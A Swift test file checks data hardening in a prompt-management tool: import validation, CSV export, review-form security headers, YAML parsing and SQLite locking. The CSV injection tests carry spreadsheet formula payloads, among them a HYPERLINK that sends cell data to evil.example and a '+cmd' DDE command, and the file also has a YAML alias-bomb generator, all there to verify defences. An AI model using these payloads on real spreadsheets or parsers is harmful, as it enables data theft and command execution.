import Foundation
import GRDB
import Hummingbird
import PromptctlCore
import PromptctlKit
import PromptctlLLM
import PromptctlReview
import PromptctlStore
import PromptctlWeb
import Testing

// Issue 17, items 4–9, 13 and 14: imports that lose or invent data, stored values that crash a report, CSV cells
// a spreadsheet would run, and the headers of the review form. Real SQLite files and a real loopback server.

private let pseudonymKey = "0123456789abcdef0123456789abcdef"

/// One production message line, with overrides.
private func messageLine(_ index: Int, _ overrides: [String: Any] = [:]) -> String {
    var object: [String: Any] = [
        "id": "m\(index)", "timestamp": "2026-11-2\(4 + index % 3)T1\(index % 10):00:00Z",
        "conversation_id": "conv-\(index % 9)", "user_id": "user-\(index % 10)",
        "prompt_id": "gestante-acolhimento", "prompt_version": "1.1.0", "language": "pt-BR",
        "persona": "nurse-guide", "user_message": "Dúvida \(index); estou com azia", "response": "Resposta \(index)",
        "model": "gpt-4o-mini", "tokens_in": 500, "tokens_out": 100, "latency_ms": 800,
        "guard_decision": ["action": "allow", "categories": [String]()],
    ]
    for (key, value) in overrides { object[key] = value }
    return String(decoding: try! JSONSerialization.data(withJSONObject: object, options: [.sortedKeys]), as: UTF8.self)
}

/// A copy of the shipped project with `count` messages imported and a week's sample of `sample` drawn.
private func reviewProject(messages count: Int = 30, sample: Int = 5) throws -> (TemporaryDirectory, ReviewService) {
    let directory = try copyShippedProject()
    try directory.write("messages.jsonl", (0..<count).map { messageLine($0) }.joined(separator: "\n") + "\n")
    let workspace = Workspace(project: directory.url.path, environment: [Privacy.keyVariable: pseudonymKey])
    _ = try CostService(workspace: workspace).importMessages("messages.jsonl")
    let service = ReviewService(workspace: workspace)
    _ = try service.sample(week: "2026-W48", size: sample, seed: nil)
    return (directory, service)
}

/// The week's exported CSV with every review column filled; `comment(row)` gives each row's raw comment cell.
private func filledSheet(_ service: ReviewService, comment: (Int) -> String) throws -> [String] {
    let rows = CSV.parse(try service.export(week: "2026-W48", format: .csv), separator: ";")
    let header = rows[0]
    var lines = [header.joined(separator: ";")]
    for (index, var row) in rows.enumerated().dropFirst() {
        row[header.firstIndex(of: "reviewer")!] = "Enf. Ana"
        row[header.firstIndex(of: "clinical_coherence_1_5")!] = "4"
        row[header.firstIndex(of: "friendly_tone_1_5")!] = "5"
        row[header.firstIndex(of: "safe_yes_no")!] = "sim"
        row[header.firstIndex(of: "send_as_is_yes_no")!] = "não"
        let commentColumn = header.firstIndex(of: "comment")!
        row[commentColumn] = ""
        var cells = row.map { CSV.field($0, separator: ";") }
        cells[commentColumn] = comment(index)
        lines.append(cells.joined(separator: ";"))
    }
    return lines
}

private func expectRefusal(_ body: () throws -> Void, mentioning parts: [String]) {
    do {
        try body()
        Issue.record("expected a refusal mentioning \(parts)")
    } catch let error as PromptctlError {
        #expect(error.exitStatus == .usageOrConfig)
        for part in parts { #expect(error.description.contains(part), "\(error.description)") }
    } catch {
        Issue.record("unexpected error \(error)")
    }
}

@Suite("data hardening: review import")
struct ReviewImportHardeningTests {
    @Test("a comment opened with a stray quote is refused naming its row, and nothing is stored")
    func strayQuote() throws {
        let (directory, service) = try reviewProject()
        defer { directory.cleanUp() }
        // Row 4 (the third item) holds `"Muito bom, mas` with no closing quote; row 5's response is quoted, so the
        // lenient reader swallowed rows 4 and 5 into one comment.
        let lines = try filledSheet(service) { $0 == 3 ? "\"Muito bom, mas faltou; o encaminhamento" : "" }
        try directory.write("filled.csv", "\u{FEFF}" + lines.joined(separator: "\r\n") + "\r\n")
        expectRefusal({ _ = try service.importFeedback("filled.csv") }, mentioning: ["filled.csv", "row 4"])
        #expect(try service.database().feedback(week: nil).isEmpty)
    }

    @Test("a quote never closed is refused, naming the row it opened on")
    func unclosedQuote() throws {
        let (directory, service) = try reviewProject()
        defer { directory.cleanUp() }
        let lines = try filledSheet(service) { $0 == 5 ? "\"sem fim" : "" }
        try directory.write("filled.csv", lines.joined(separator: "\r\n") + "\r\n")
        expectRefusal({ _ = try service.importFeedback("filled.csv") }, mentioning: ["row 6", "never closed"])
        #expect(try service.database().feedback(week: nil).isEmpty)
    }

    @Test("a sheet missing one of the week's rows is refused: the count does not match the sample")
    func missingRow() throws {
        let (directory, service) = try reviewProject()
        defer { directory.cleanUp() }
        var lines = try filledSheet(service) { _ in "" }
        lines.remove(at: 2)
        try directory.write("filled.csv", lines.joined(separator: "\r\n"))
        expectRefusal({ _ = try service.importFeedback("filled.csv") }, mentioning: ["4 row(s)", "5 items"])
        #expect(try service.database().feedback(week: nil).isEmpty)
    }

    @Test("an over-long field is refused naming its row")
    func overLongField() throws {
        let (directory, service) = try reviewProject()
        defer { directory.cleanUp() }
        let long = String(repeating: "a", count: FeedbackImport.maxFieldLength + 1)
        let lines = try filledSheet(service) { $0 == 2 ? long : "" }
        try directory.write("filled.csv", lines.joined(separator: "\r\n"))
        expectRefusal({ _ = try service.importFeedback("filled.csv") }, mentioning: ["row 3", "characters"])
        #expect(try service.database().feedback(week: nil).isEmpty)
    }

    @Test("a well-formed sheet with quoted multi-line comments imports; a changed answer replaces the stored one")
    func wellFormed() throws {
        let (directory, service) = try reviewProject()
        defer { directory.cleanUp() }
        let lines = try filledSheet(service) { CSV.field("Linha \($0);\ncom \"aspas\"", separator: ";") }
        try directory.write("filled.csv", lines.joined(separator: "\r\n") + "\r\n")
        let first = try service.importFeedback("filled.csv")
        #expect(first.rows == 5 && first.saved.new == 5)
        let changed = try filledSheet(service) {
            $0 == 1 ? "mudei de ideia" : CSV.field("Linha \($0);\ncom \"aspas\"", separator: ";")
        }
        try directory.write("filled.csv", changed.joined(separator: "\r\n") + "\r\n")
        let second = try service.importFeedback("filled.csv")
        #expect(second.saved.new == 0 && second.saved.updated == 1 && second.saved.unchanged == 4)
        let stored = try service.database().feedback(week: "2026-W48")
        #expect(stored.count == 5)
        #expect(stored.contains { $0.0.comment == "mudei de ideia" })
        let item = try #require(stored.first { $0.0.comment == "mudei de ideia" }?.0.itemID)
        #expect(
            try service.database().feedbackHistory(itemID: item, reviewer: "Enf. Ana").map(\.comment) == [
                "Linha 1;\ncom \"aspas\"", "mudei de ideia",
            ])
    }
}

@Suite("data hardening: messages import")
struct MessagesImportHardeningTests {
    func project(_ text: String) throws -> (TemporaryDirectory, CostService) {
        let directory = try copyShippedProject()
        try directory.write("messages.jsonl", text)
        return (directory, CostService(workspace: Workspace(project: directory.url.path, environment: [:])))
    }

    @Test(
        "a line with a value out of type or range is refused with its line and field; nothing is written",
        arguments: [
            (#"{"tokens_in": -1000000}"#, "tokens_in"),
            (#"{"tokens_out": 1e30}"#, "tokens_out"),
            (#"{"tokens_in": "abc"}"#, "tokens_in"),
            (#"{"tokens_in": 1.5}"#, "tokens_in"),
            (#"{"response": {"text": "olá"}}"#, "response"),
            (#"{"guard_decision": "explode"}"#, "guard_decision"),
            (#"{"guard_decision": {"action": "explode"}}"#, "guard_decision"),
            (#"{"timestamp": "9999-01-01T00:00:00Z"}"#, "timestamp"),
            (#"{"timestamp": "1970-01-01T00:00:00Z"}"#, "timestamp"),
            (#"{"user_message": "corta\u0000aqui"}"#, "user_message"),
            (#"{"latency_ms": -5}"#, "latency_ms"),
            (#"{"status": "exploded"}"#, "status"),
        ])
    func rejected(overrides: String, field: String) throws {
        let changes = try #require(
            try JSONSerialization.jsonObject(with: Data(overrides.utf8)) as? [String: Any])
        let (directory, service) = try project(messageLine(1) + "\n" + messageLine(2, changes) + "\n")
        defer { directory.cleanUp() }
        expectRefusal({ _ = try service.importMessages("messages.jsonl") }, mentioning: ["messages.jsonl:2:1", field])
        #expect(try service.report(by: .day, group: .none, from: nil, to: nil).isEmpty)
    }

    @Test("a repeated id with different content is an error, in the file and against the store")
    func repeatedID() throws {
        let (directory, service) = try project(
            messageLine(1) + "\n" + messageLine(1) + "\n" + messageLine(1, ["response": "outra"]) + "\n")
        defer { directory.cleanUp() }
        expectRefusal(
            { _ = try service.importMessages("messages.jsonl") },
            mentioning: ["messages.jsonl:3:1", "already used on line 1"])
        try directory.write("messages.jsonl", messageLine(1) + "\n")
        #expect(try service.importMessages("messages.jsonl") == (1, 1))
        #expect(try service.importMessages("messages.jsonl") == (1, 0))
        try directory.write("messages.jsonl", messageLine(2) + "\n" + messageLine(1, ["tokens_out": 7]) + "\n")
        expectRefusal(
            { _ = try service.importMessages("messages.jsonl") },
            mentioning: ["messages.jsonl:2:1", "already stored with different content"])
        #expect(try service.report(by: .day, group: .none, from: nil, to: nil).reduce(0) { $0 + $1.messages } == 1)
    }

    @Test("CRLF line ends and a UTF-8 byte-order mark are read as lines, in every line reader")
    func crlfAndBOM() throws {
        let text = "\u{FEFF}" + (0..<3).map { messageLine($0) }.joined(separator: "\r\n") + "\r\n"
        let (directory, service) = try project(text)
        defer { directory.cleanUp() }
        #expect(try service.importMessages("messages.jsonl") == (3, 3))
        try directory.write(
            "check.jsonl", "\u{FEFF}{\"id\": \"a\", \"text\": \"Oi\"}\r\n{\"id\": \"b\", \"text\": \"Olá\"}\r\n")
        let items = try GuardService.readJSONL(
            "check.jsonl", workspace: Workspace(project: directory.url.path, environment: [:]))
        #expect(items.map(\.id) == ["a", "b"] && items.map(\.text) == ["Oi", "Olá"])
        #expect(TextLines.lines(Data("a\r\nb\n\r\nc".utf8)) == ["a", "b", "", "c"])
        #expect(TextLines.lines(Data("{\"t\": \"x\u{2028}y\"}\n".utf8)).count == 1)
    }
}

@Suite("data hardening: stored values never trap")
struct StoredValueTests {
    @Test("a cost report over a stored token count that overflows is an error naming the row, not a crash")
    func overflow() throws {
        let directory = try TemporaryDirectory()
        defer { directory.cleanUp() }
        let database = try AppDatabase(path: directory.path("store.sqlite"))
        let at = Timestamp.parse("2026-11-25T10:00:00Z")!
        // What the old import stored for `tokens_out: 1e30`: two of them overflow any sum.
        let messages = (0..<2).map { index in
            ProductionMessage(
                key: "bad-\(index)", at: at, conversationID: nil, userID: nil, promptID: "gestante-acolhimento",
                promptVersion: "1.1.0", label: nil, language: nil, persona: nil, userMessage: "", response: "",
                provider: "production", model: "gpt-4o-mini", promptTokens: Int.max, cachedTokens: 0,
                completionTokens: Int.max, latencyMs: 0, status: .ok, guardAction: nil, guardCategories: [],
                costUSD: 0)
        }
        try database.importMessages(messages)
        do {
            _ = try database.costReport(bucket: .day, grouping: .prompt, from: .distantPast, to: .distantFuture)
            Issue.record("an out-of-range total must be an error")
        } catch let error as PromptctlError {
            #expect(error.message.contains("2026-11-25 · gestante-acolhimento@1.1.0"))
            #expect(error.message.contains("llm_call row(s) 1, 2"))
        }
        let row = CostRow(
            bucket: "x", group: "y", messages: 1, errors: 0, promptTokens: Int.max, cachedTokens: 0,
            completionTokens: Int.max, costUSD: 0)
        #expect(row.tokensPerMessage > 1e19)
    }
}

@Suite("data hardening: CSV cells a spreadsheet would run")
struct CSVInjectionTests {
    @Test(
        "a cell starting with = + - @ tab or CR is prefixed with a quote",
        arguments: [
            "=HYPERLINK(\"http://x.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\tx", "\rx",
        ])
    func neutralised(text: String) {
        let cell = CSV.field(text, separator: ";")
        #expect(cell.hasPrefix("'") || cell.hasPrefix("\"'"), "\(cell)")
        #expect(CSV.parse(cell + "\n", separator: ";").first?.first == "'" + text)
    }

    @Test("plain numbers and ordinary text are left as they are", arguments: ["-3", "+1.5", "42", "Olá = oi", ""])
    func untouched(text: String) {
        #expect(CSV.field(text) == text)
    }

    @Test("the review export and the cost report never write a live formula")
    func exports() throws {
        let directory = try copyShippedProject()
        defer { directory.cleanUp() }
        let formulas = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "@SUM(1+1)"]
        let lines = (0..<6).map {
            messageLine(
                $0, ["response": formulas[$0 % 3], "user_message": formulas[($0 + 1) % 3], "prompt_id": "=1+1"])
        }
        try directory.write("messages.jsonl", lines.joined(separator: "\n"))
        let workspace = Workspace(project: directory.url.path, environment: [Privacy.keyVariable: pseudonymKey])
        _ = try CostService(workspace: workspace).importMessages("messages.jsonl")
        let review = ReviewService(workspace: workspace)
        _ = try review.sample(week: "2026-W48", size: 6, seed: nil)
        let rows = CSV.parse(try review.export(week: "2026-W48", format: .csv), separator: ";")
        let cost = try CostService.format(
            try CostService(workspace: workspace).report(by: .day, group: .prompt, from: nil, to: nil), as: .csv,
            bucket: .day, group: .prompt)
        for cell in (rows.dropFirst().flatMap { $0 } + CSV.parse(cost).flatMap { $0 }) {
            #expect(!(cell.first.map { "=+-@\t\r".contains($0) } ?? false), "live formula: \(cell)")
        }
        #expect(rows.dropFirst().contains { $0.contains("'" + formulas[2]) })
    }
}

@Suite("data hardening: the review form", .serialized)
struct ReviewFormHardeningTests {
    @Test("a second answer replaces the first, the page says so, and the first stays in the history")
    func resubmit() async throws {
        let (directory, service) = try reviewProject(sample: 3)
        defer { directory.cleanUp() }
        let items = try service.database().reviewItems(week: "2026-W48")
        let token = try service.invite(reviewer: "Enf. Ana", week: "2026-W48")
        try await withReviewForm(service, pseudonymKey: pseudonymKey) { http in
            let page = try await http.send("GET", "/r/" + token)
            let csrf = try #require(
                page.text.range(of: #"name="csrf" value=""#).map { page.text[$0.upperBound...].prefix(64) })
            func submit(_ tone: Int, _ comment: String) async throws -> PromptctlLLM.HTTPResponse {
                try await http.send(
                    "POST", "/r/\(token)/items/\(items[0].id)",
                    form:
                        "clinical_coherence=4&friendly_tone=\(tone)&safe=sim&send_as_is=sim&comment=\(comment)&csrf=\(csrf)"
                )
            }
            #expect(try await submit(5, "primeira").headers["location"]?.contains("outcome=new") == true)
            let second = try await submit(2, "segunda")
            #expect(second.status == 303)
            let location = try #require(second.headers["location"])
            #expect(location.contains("outcome=updated"))
            let shown = try await http.send("GET", location)
            #expect(shown.text.contains("substitui a anterior"))
            let stored = try service.database().feedback(week: "2026-W48")
            #expect(stored.count == 1 && stored[0].0.friendlyTone == 2 && stored[0].0.comment == "segunda")
            #expect(
                try service.database().feedbackHistory(itemID: items[0].id, reviewer: "Enf. Ana").map(\.comment) == [
                    "primeira", "segunda",
                ])
        }
    }

    @Test("200 concurrent submits over 20 items: every one is in the history and the last of each item is in force")
    func concurrentSubmits() async throws {
        let (directory, service) = try reviewProject(messages: 60, sample: 20)
        defer { directory.cleanUp() }
        let items = try service.database().reviewItems(week: "2026-W48")
        #expect(items.count == 20)
        let token = try service.invite(reviewer: "Enf. Ana", week: "2026-W48")
        try await withReviewForm(service, pseudonymKey: pseudonymKey) { http in
            let page = try await http.send("GET", "/r/" + token)
            let csrf = String(
                try #require(
                    page.text.range(of: #"name="csrf" value=""#).map { page.text[$0.upperBound...].prefix(64) }))
            let statuses = try await withThrowingTaskGroup(of: Int.self) { group in
                for submit in 0..<200 {
                    let item = items[submit % 20].id
                    group.addTask {
                        try await http.send(
                            "POST", "/r/\(token)/items/\(item)",
                            form:
                                "clinical_coherence=\(submit % 5 + 1)&friendly_tone=3&safe=sim&send_as_is=sim&comment=envio-\(submit)&csrf=\(csrf)"
                        ).status
                    }
                }
                return try await group.reduce(into: [Int]()) { $0.append($1) }
            }
            #expect(statuses.count == 200 && statuses.allSatisfy { $0 == 303 })
            let database = try service.database()
            #expect(try database.feedbackHistoryCount() == 200)
            let stored = try database.feedback(week: "2026-W48")
            #expect(stored.count == 20)
            for (row, _) in stored {
                #expect(try database.feedbackHistory(itemID: row.itemID, reviewer: "Enf. Ana").last == row)
            }
        }
    }

    @Test("every page carries no-store and no-framing headers; other methods get 405 with Allow; HEAD works")
    func headers() async throws {
        let (directory, service) = try reviewProject(sample: 2)
        defer { directory.cleanUp() }
        let items = try service.database().reviewItems(week: "2026-W48")
        let token = try service.invite(reviewer: "Enf. Ana", week: "2026-W48")
        try await withReviewForm(service, pseudonymKey: pseudonymKey) { http in
            func check(_ response: PromptctlLLM.HTTPResponse, _ what: String) {
                #expect(response.headers["cache-control"] == "no-store", "\(what)")
                #expect(response.headers["x-frame-options"] == "DENY", "\(what)")
                #expect(
                    response.headers["content-security-policy"]?.contains("frame-ancestors 'none'") == true, "\(what)")
            }
            let page = try await http.send("GET", "/r/" + token)
            #expect(page.status == 200)
            check(page, "the form")
            #expect(page.headers["content-security-policy"]?.contains("default-src 'none'") == true)
            check(
                try await http.send("GET", "/r/" + String(repeating: "0", count: 48)), "403")
            check(try await http.send("GET", "/nowhere"), "404")
            check(try await http.send("GET", "/metrics"), "metrics")
            for (method, path, allow) in [
                ("DELETE", "/r/\(token)", "GET, HEAD"), ("PUT", "/r/\(token)", "GET, HEAD"),
                ("GET", "/r/\(token)/items/\(items[0].id)", "POST"), ("POST", "/", "GET, HEAD"),
            ] {
                let response = try await http.send(method, path)
                #expect(response.status == 405, "\(method) \(path)")
                #expect(response.headers["allow"] == allow, "\(method) \(path)")
                check(response, "405")
            }
            let head = try await http.send("HEAD", "/r/" + token)
            #expect(head.status == 200 && head.body.isEmpty)
            check(head, "HEAD")
        }
    }
}

/// A YAML "billion laughs": `depth` levels of lists, each holding `width` aliases to the level below.
func aliasBomb(width: Int, depth: Int, indent: String = "") -> String {
    var lines = [indent + "a0: &a0 [" + Array(repeating: "\"lol\"", count: width).joined(separator: ", ") + "]"]
    for level in 1...depth {
        lines.append(
            indent + "a\(level): &a\(level) ["
                + Array(repeating: "*a\(level - 1)", count: width).joined(separator: ", ")
                + "]")
    }
    return lines.joined(separator: "\n") + "\n"
}

@Suite("data hardening: YAML and templates")
struct YAMLAndTemplateHardeningTests {
    @Test("aliases nested 9 × 7 are refused at once with exit 2, wherever YAML is read")
    func aliasBombRefused() throws {
        let started = DispatchTime.now().uptimeNanoseconds
        let file = YAMLFile(text: "name: x\n" + aliasBomb(width: 9, depth: 7), displayPath: "bomb.yaml")
        do {
            _ = try file.parse()
            Issue.record("an alias bomb must be refused")
        } catch let error as PromptctlError {
            #expect(error.exitStatus == .usageOrConfig)
            #expect(error.description.contains("bomb.yaml"))
            #expect(error.description.contains("alias"))
        }
        #expect(secondsSince(started) < 2)
        // A few aliases, as people use them, are fine.
        _ = try YAMLFile(text: "a: &x {k: 1}\nb: *x\nc: *x\n", displayPath: "ok.yaml").parse()
    }

    @Test("a plain null, ~ or empty value is an absent one; quoted, 'null' is text; numbers and booleans by their text")
    func nullValues() throws {
        let text = "a: null\nb: ~\nc:\nd: 'null'\ne: NULL\nf: 0012\ng: yes\nh: 1.5e3\n"
        let file = YAMLFile(text: text, displayPath: "values.yaml")
        let diagnostics = DiagnosticCollector()
        let reader = try #require(
            MappingReader(try file.parse(), file: file.displayPath, diagnostics: diagnostics, context: "test"))
        for key in ["a", "b", "c", "e"] { #expect(reader.value(key) == nil, "\(key)") }
        #expect(reader.string("d") == "null")
        #expect(reader.int("f") == 12)
        #expect(reader.bool("g") == true)
        #expect(reader.double("h") == 1500)
        // Absent is not silently fine when the key is required.
        #expect(reader.value("a", required: true) == nil)
        #expect(diagnostics.diagnostics.contains { $0.message.contains("missing the required key 'a'") })
    }
}

/// Another process (Python's sqlite3) holding `BEGIN EXCLUSIVE` on a store for `seconds`; returns once it holds it.
private func holdExclusiveLock(_ path: String, seconds: Double) throws -> Process {
    let process = Process()
    process.executableURL = URL(fileURLWithPath: "/usr/bin/env")
    process.arguments = [
        "python3", "-c",
        """
        import sqlite3, sys, time
        c = sqlite3.connect(sys.argv[1], isolation_level=None)
        c.execute("BEGIN EXCLUSIVE")
        print("locked", flush=True)
        time.sleep(float(sys.argv[2]))
        c.execute("COMMIT")
        """, path, String(seconds),
    ]
    let out = Pipe()
    process.standardOutput = out
    try process.run()
    var line = Data()
    while !line.contains(0x0A) {
        let chunk = out.fileHandleForReading.availableData
        if chunk.isEmpty { break }
        line.append(chunk)
    }
    #expect(String(decoding: line, as: UTF8.self).hasPrefix("locked"))
    return process
}

private func call(_ index: Int) -> CallRecord {
    CallRecord(
        at: Date(), runID: "run-1", provider: "stub", model: "gpt-4o-mini", promptID: "gestante-acolhimento",
        promptVersion: "1.1.0", status: .ok, error: nil, promptTokens: 100 + index, cachedTokens: 0,
        completionTokens: 50, costUSD: 0.0001, latencyMs: 10, cacheHit: false, attempts: 1)
}

@Suite("data hardening: metering while the store is locked")
struct LockedStoreTests {
    @Test("another process holding the lock longer than the busy timeout: every call is written once it lets go")
    func lockHeld() throws {
        let directory = try TemporaryDirectory()
        defer { directory.cleanUp() }
        let database = try AppDatabase(path: directory.path("store.sqlite"), busyTimeout: 0.2)
        let locker = try holdExclusiveLock(directory.path("store.sqlite"), seconds: 1.5)
        let log = BufferedCallLog(
            database: database, batch: 8, spillFile: directory.url.appendingPathComponent("spill"))
        try log.record((0..<49).map(call))
        let counts = try log.flush()
        locker.waitUntilExit()
        #expect(counts == .init(made: 49, written: 49, spilled: 0))
        #expect(try database.callRecords().count == 49)
        #expect(log.describe(counts) == "49 of 49 call records written")
    }

    @Test("a store that keeps refusing: the calls are kept in the spill file, said so, and restored later")
    func spilled() async throws {
        let directory = try TemporaryDirectory()
        defer { directory.cleanUp() }
        let database = try AppDatabase(path: directory.path("store.sqlite"), busyTimeout: 0.2)
        try await rawSQLite(database.path) { db in
            try db.execute(
                sql:
                    "CREATE TRIGGER refuse BEFORE INSERT ON llm_call BEGIN SELECT RAISE(ABORT, 'disk full (simulated)'); END"
            )
        }
        let spill = directory.url.appendingPathComponent("unsaved-calls/run-1.jsonl")
        let log = BufferedCallLog(database: database, batch: 8, spillFile: spill, retryFor: 1)
        try log.record((0..<20).map(call))
        let counts = try log.flush()
        #expect(counts == .init(made: 20, written: 0, spilled: 20))
        #expect(log.describe(counts).contains("0 of 20 call records written; 20 kept in \(spill.path)"))
        #expect(try TextLines.lines(Data(contentsOf: spill)).filter { !$0.isEmpty }.count == 20)
        try await rawSQLite(database.path) { db in try db.execute(sql: "DROP TRIGGER refuse") }
        #expect(try BufferedCallLog.restore(from: spill, into: database) == 20)
        #expect(try database.callRecords().map(\.promptTokens) == (0..<20).map { 100 + $0 })
        #expect(!FileManager.default.fileExists(atPath: spill.path))
    }
}
